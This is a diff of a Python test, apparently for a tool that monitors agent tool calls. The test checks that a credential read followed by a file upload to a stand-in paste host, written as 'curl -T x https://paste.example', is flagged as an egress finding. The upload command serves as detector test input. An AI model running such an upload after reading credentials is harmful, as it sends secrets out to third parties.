@@ -86,7 +86,7 @@ async def test_a_curl_after_a_credential_read_is_a_finding_too(team: AnchoredTea
     _read_credentials(team.bob, "sb")
     assert live.hook_process(team.bob, "post-tool", _bash(team.bob, "sb", "curl -T x https://paste.example")
                              ).code == 0
-    live.publish_and_sync(team.bob)
+    team.bob.ok("sync")  # a plain `gitive sync`, no daemon round: the finding goes out with it
     [finding] = _findings(team.bob)
     assert finding["egress"] == "curl" and "message" not in finding
     Ticker(team.anchor)()
